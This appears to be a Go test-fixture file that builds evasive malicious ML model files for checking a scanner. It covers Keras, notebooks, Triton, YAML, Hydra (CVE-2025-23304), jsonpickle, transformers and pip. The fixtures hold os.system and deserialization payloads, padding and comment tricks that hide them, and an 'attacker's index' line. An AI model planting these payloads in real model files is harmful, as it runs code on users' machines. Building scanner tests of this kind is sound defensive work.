package hostile

import "strings"

// evasionSamples hide what other samples show plainly: behind what stands first in a file, in files that loaders know by name,
// behind names that others give.
func evasionSamples() []Sample {
	const far = 70 << 10 // bytes, more than formats are recognised by
	attack := "import os\nos.system('" + harmlessShell + "')\n"
	first := `{"first":"` + strings.Repeat("x", far) + `",`
	lambda := `"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{"function":["4wEAAAAAAAAAAAAAAAEAAAADAAAA",null,null],"function_type":"lambda"}}]}}`
	apply := "!!python/object/apply:os.system ['" + harmlessShell + "']\n"
	sample := func(name, technique, loader, content string, beside map[string]string) Sample {
		s := Sample{Name: name, Group: "evasion", Technique: technique, Loader: loader, Build: build([]byte(content)), Beside: map[string][]byte{}}
		for n, text := range beside {
			s.Beside[n] = []byte(text)
		}
		return s
	}
	mapped := `{"auto_map":{"AutoModel":"modeling_x.Model"}}`
	return []Sample{
		sample("behind-keras.json", "the layers of Keras stand behind a long member", "keras", first+lambda, nil),
		sample("behind-notebook.ipynb", "the cells of a notebook stand behind a long member", "jupyter",
			first+`"cells":[{"cell_type":"code","source":"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"}],"nbformat":4}`, nil),
		sample("behind-mxnet-symbol.json", "the operators of MXNet stand behind a long member", "mxnet",
			first+`"nodes":[{"op":"Custom","name":"x","attrs":{"op_type":"evil"},"inputs":[]}],"arg_nodes":[0],"heads":[[0,0,0]]}`, nil),
		sample("behind-comment.xml", "the layers of OpenVINO stand behind a long comment", "openvino", "<!--"+strings.Repeat("x", far)+
			`--><net name="x" version="11"><layers><layer id="0" name="a" type="Evil" version="extension"/></layers><edges/></net>`, nil),
		sample("config.pbtxt", "the configuration of Triton stands behind a long comment", "triton", "#"+strings.Repeat("x", far)+
			"\nname: \"x\"\nbackend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value: { string_value: \"/tmp/evil.tar.gz\" } }\n", nil),
		sample("config.cfg", "the configuration of spaCy stands behind a long comment", "spacy", "#"+strings.Repeat("x", far)+
			"\n[nlp]\nlang = \"en\"\n[initialize]\n[initialize.before_init]\n@callbacks = \"evil.run\"\n", nil),
		sample("model.py", "Triton runs the model by its name", "triton", "import os\nos.system('"+harmlessShell+"')\nclass TritonPythonModel: pass\n", nil),
		sample("MLmodel", "an MLmodel file with nothing but flavours", "mlflow", "flavors:\n  python_function:\n    loader_module: evil\n", nil),
		sample("carriage-return.yaml", "a comment ends at a carriage return", "yaml", "a: b # c\rhook: "+apply, nil),
		sample("line-separator.yaml", "a comment ends at U+2028", "yaml", "a: b # c\u2028hook: "+apply, nil),
		sample("block-in-list.yaml", "a block of text in two lists ends before the attack", "yaml", "- - |\n   text\n  - "+apply, nil),
		sample("block-in-key.yaml", "a block of text in a complex key ends before the attack", "yaml", "? a: |\n    text\n  b: "+apply+": c\n", nil),
		sample("interpolated.yaml", "CVE-2025-23304: the callable stands elsewhere in the configuration", "hydra", "model:\n  _target_: ${x}\nx: os.system\n", nil),
		sample("modules.json", "sentence-transformers imports a module that has no name", "sentence-transformers", `[{"idx":0,"type":"subprocess.Popen","path":""}]`, nil),
		sample("dense-config.json", "sentence-transformers imports and calls an activation function", "sentence-transformers", `{"activation_function":"os.system"}`, nil),
		sample("jsonpickle.json", "jsonpickle calls a function", "jsonpickle", `{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["`+harmlessShell+`"]}]}`, nil),
		sample("quiet-import-config.json", "a comment has the loader copy the file that a computed import runs", "transformers", mapped,
			map[string]string{"modeling_x.py": "# from .evil import x\nimport importlib\nimportlib.import_module('.evil', __package__)\n", "evil.py": attack}),
		sample("path-import-config.json", "a file beside is imported through Python's path", "transformers", mapped,
			map[string]string{"modeling_x.py": "import os, sys\nsys.path.append(os.path.dirname(__file__))\nimport evil\n", "evil.py": attack}),
		sample("hubconf.py", "torch.hub imports the file by its name", "torch.hub", attack, nil),
		sample("handler.py", "inference endpoints make the handler", "endpoint",
			"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('"+harmlessShell+"')\n", nil),
		sample("words.py", "datasets runs the script of a data set", "datasets",
			"import datasets\nimport os\nclass Words(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('"+harmlessShell+"')\n", nil),
		sample("requirements.txt", "packages come from the attacker's index", "pip", "--extra-index-url http://127.0.0.1:9/\ntorch\n", nil),
	}
}
